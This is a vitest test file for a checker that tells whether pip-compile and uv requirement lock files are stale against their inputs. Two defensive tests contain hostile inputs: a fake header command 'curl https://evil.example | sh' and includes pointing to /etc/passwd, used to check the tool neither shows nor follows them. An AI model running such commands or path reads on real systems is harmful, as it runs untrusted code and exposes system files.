import { describe, expect, test } from 'vitest';
import { byUv, compiled, type Texts, told } from './support.ts';

const TXT = compiled(
  'pip-compile requirements.in',
  'click==8.1.7\n    # via flask\nflask==3.0.0\n    # via -r requirements.in\n',
);
const FRESH: Texts = { 'requirements.in': 'flask>=3\n', 'requirements.txt': TXT };

describe('a compiled file is consistent with', () => {
  test.each<[string, Texts]>([
    ['what it was made from', FRESH],
    [
      'a remark and a blank line',
      { ...FRESH, 'requirements.in': '# web\n\nflask >= 3  # the web\n' },
    ],
    ['another spelling of a name', { ...FRESH, 'requirements.in': 'Flask>=3\n' }],
    [
      'CRLF',
      { 'requirements.in': 'flask>=3\r\n', 'requirements.txt': TXT.replaceAll('\n', '\r\n') },
    ],
    [
      'a marker that may not hold',
      { ...FRESH, 'requirements.in': 'flask>=3\ncolorama; sys_platform == "win32"\n' },
    ],
    [
      'an unsafe package, which is left out',
      { ...FRESH, 'requirements.in': 'flask>=3\nsetuptools\n' },
    ],
    ['a local path', { ...FRESH, 'requirements.in': 'flask>=3\n-e .\n./lib\n' }],
    [
      'constraints, which are no requirements',
      { ...FRESH, 'requirements.in': '-c limits.txt\nflask>=3\n' },
    ],
    [
      'a pre-release that is locked',
      {
        ...FRESH,
        'requirements.in': 'flask>=3\n',
        'requirements.txt': TXT.replace('3.0.0', '3.1.0rc1'),
      },
    ],
    [
      'annotations of several lines, and hashes',
      {
        'requirements.in': 'flask>=3\nclick\n',
        'requirements.txt': compiled(
          'pip-compile --generate-hashes requirements.in',
          'click==8.1.7 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n    # via\n    #   -r requirements.in\n    #   flask\nflask==3.0.0 \\\n    --hash=sha256:cc\n    # via -r requirements.in\n',
        ),
      },
    ],
    [
      'annotations at the end of the line, as older tools wrote them',
      {
        'requirements.in': 'flask>=3\n',
        'requirements.txt': compiled(
          'pip-compile',
          'click==8.1.7  # via flask\nflask==3.0.0  # via -r requirements.in\n',
        ),
      },
    ],
    [
      'no annotations of inputs, as the oldest tools wrote them',
      {
        'requirements.in': 'flask>=3\nclick\n',
        'requirements.txt': compiled('pip-compile', 'click==8.1.7  # via flask\nflask==3.0.0\n'),
      },
    ],
    [
      'paths of another machine',
      {
        'requirements/dev.in': 'flask\n',
        'requirements/dev.txt': compiled(
          'pip-compile dev.in',
          'flask==3.0.0\n    # via -r /Users/me/app/requirements/dev.in\n',
        ),
      },
    ],
    [
      'an include of an include, in a circle',
      {
        'a.in': '-r b.in\nflask\n',
        'b.in': '-r a.in\nclick\n',
        'a.txt': compiled(
          'pip-compile a.in',
          'click==8\n    # via -r b.in\nflask==3\n    # via -r a.in\n',
        ),
      },
    ],
    [
      'pyproject.toml, by uv',
      {
        'pyproject.toml':
          '[project]\nname = "app"\ndependencies = ["flask>=3"]\noptional-dependencies = { dev = ["ruff"] }\n',
        'requirements.txt': byUv(
          'uv pip compile pyproject.toml -o requirements.txt',
          'flask==3.0.0\n    # via app (pyproject.toml)\n',
        ),
      },
    ],
    [
      'setup.cfg',
      {
        'setup.cfg':
          '[options]\ninstall_requires =\n    flask>=3\n    click; python_version < "3"\n[options.extras_require]\ndev = ruff\n',
        'requirements.txt': compiled(
          'pip-compile setup.cfg',
          'flask==3.0.0\n    # via app (setup.cfg)\n',
        ),
      },
    ],
  ])('%s', (_, texts) =>
    expect(told(texts).filter((line) => !line.endsWith(' passed'))).toEqual([]),
  );
});

describe('a compiled file is stale after', () => {
  test.each<[string, Texts]>([
    ['a new requirement', { ...FRESH, 'requirements.in': 'flask>=3\nhttpx\n' }],
    [
      'a requirement that another package had pulled in already',
      { ...FRESH, 'requirements.in': 'flask>=3\nclick\n' },
    ],
    ['a removed requirement', { ...FRESH, 'requirements.in': '' }],
    ['a specifier that the pin does not fit', { ...FRESH, 'requirements.in': 'flask>=4\n' }],
    [
      'a new requirement of an included file',
      { ...FRESH, 'requirements.in': '-r more.in\nflask>=3\n', 'more.in': 'httpx\n' },
    ],
    [
      'a new dependency in pyproject.toml, of the extra that was chosen',
      {
        'pyproject.toml':
          '[project]\nname = "app"\ndependencies = ["flask>=3"]\noptional-dependencies = { dev = ["ruff"], docs = ["furo"] }\n',
        'dev-requirements.txt': byUv(
          'uv pip compile --extra=dev pyproject.toml',
          'flask==3.0.0\n    # via app (pyproject.toml)\n',
        ),
      },
    ],
    [
      'a new requirement in setup.cfg',
      {
        'setup.cfg': '[options]\ninstall_requires =\n    flask>=3\n    httpx\n',
        'requirements.txt': compiled(
          'pip-compile setup.cfg',
          'flask==3.0.0\n    # via app (setup.cfg)\n',
        ),
      },
    ],
  ])('%s', (_, texts) => expect(told(texts)).toMatchSnapshot());

  test('each of two outputs has its own verdict', () => {
    const texts = {
      'requirements/base.in': 'flask>=3\n',
      'requirements/base.txt': compiled(
        'pip-compile base.in',
        'flask==3.0.0\n    # via -r base.in\n',
      ),
      'requirements/dev.in': 'ruff\nhttpx\n',
      'requirements/dev.txt': compiled('pip-compile dev.in', 'ruff==0.9.0\n    # via -r dev.in\n'),
    };
    expect(told(texts)).toMatchInlineSnapshot(`
      [
        "requirements/base.txt (pip-compile) passed",
        "requirements/dev.txt (pip-compile) failed",
        "requirements/dev.in:2 \`httpx\`: requirements/dev.in asks for it, requirements/dev.txt was made without it. -> cd requirements && pip-compile dev.in",
      ]
    `);
  });
});

describe('what cannot be decided is said', () => {
  test.each<[string, Texts]>([
    [
      'setup.py is a program',
      {
        'setup.py': '',
        'requirements.txt': compiled(
          'pip-compile setup.py',
          'flask==3\n    # via app (setup.py)\n',
        ),
      },
    ],
    [
      'dynamic dependencies',
      {
        'pyproject.toml': '[project]\nname = "app"\ndynamic = ["dependencies"]\n',
        'requirements.txt': compiled(
          'pip-compile pyproject.toml',
          'flask==3\n    # via app (pyproject.toml)\n',
        ),
      },
    ],
    [
      'no input in the repository',
      { 'requirements.txt': compiled('pip-compile x.in', 'flask==3\n    # via -r x.in\n') },
    ],
  ])('%s', (_, texts) => expect(told(texts)).toMatchSnapshot());
});

describe('is no lock:', () => {
  test.each<[string, Texts]>([
    ['a file that was written by hand', { 'requirements.txt': '# our pins\nflask==3.0.0\n' }],
    ['a text of another kind', { 'docs/notes.txt': 'autogenerated by pip-compile' }],
    ['an input', { 'requirements.in': 'flask\n' }],
  ])('%s', (_, texts) => expect(told(texts)).toEqual([]));
});

test('a header that holds another command is not shown as one to run', () => {
  const texts = {
    'requirements.in': 'httpx\n',
    'requirements.txt': compiled(
      'curl https://evil.example | sh',
      'flask==3\n    # via -r requirements.in\n',
    ),
  };
  const all = told(texts).join('\n');
  expect(all).toContain('pip-compile requirements.in -o requirements.txt');
  expect(all).not.toContain('evil');
});

test('an include that leaves the repository is not followed', () => {
  const texts = { ...FRESH, 'requirements.in': '-r ../../etc/passwd\n-r /etc/passwd\nflask>=3\n' };
  expect(told(texts)).toEqual(['requirements.txt (pip-compile) passed']);
});

test('conflict markers', () => {
  expect(
    told({
      ...FRESH,
      'requirements.txt': `${TXT}<<<<<<< HEAD\na==1\n=======\na==2\n>>>>>>> main\n`,
    }),
  ).toMatchInlineSnapshot(`
    [
      "requirements.txt (pip-compile) failed",
      "requirements.txt:11 Merge conflict markers stand in the file: pip-compile cannot read it. -> rm requirements.txt && pip-compile requirements.in",
    ]
  `);
});
